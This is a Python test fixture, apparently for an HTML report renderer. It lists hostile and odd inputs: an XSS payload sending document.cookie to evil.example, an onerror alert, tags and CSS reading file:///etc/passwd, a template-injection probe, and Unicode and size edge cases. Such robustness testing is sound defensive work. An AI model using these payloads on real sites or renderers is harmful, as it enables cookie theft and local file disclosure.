"""Words of people who mean harm, or simply have strange keyboards."""

HOSTILE = {
    "script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "picture from elsewhere": '<img src="https://evil.example/pixel.png" onerror=alert(1)>',
    "a file of ours": '<link rel=attachment href="file:///etc/passwd"><a rel="attachment" href="file:///etc/passwd">x</a>',
    "style": '</style><style>@import url("file:///etc/passwd"); body{display:none}</style>',
    "end of everything": "</td></table></body></html><h1>forged</h1>",
    "frames": '<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object>',
    "drawing": '<svg><image href="file:///etc/passwd"/></svg>',
    "template": "{{ config }} {% for x in ().__class__.__mro__ %}x{% endfor %} %(name)s %s {report}",
    "five thousand tags": "<div>" * 5000,
    "no blank for twenty thousand": "挤" * 10_000 + "x" * 10_000,
    "right to left": "שלום עולם مرحبا \u202egnirts siht desrever\u202c end",
    "emoji": "太差了😡👨‍👩‍👧🏽🇨🇳 ☎️ ✔",
    "rare": "䶮 堉 𠮷 ㍿ ﷽ ꧅ \U000e0041 \ufdd0",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\x00f\x07g",
    "lone half": "broken \ud83d half",
    "combining": "Z" + "\u0351" * 300,
    "many lines": "\n" * 400 + "end",
}
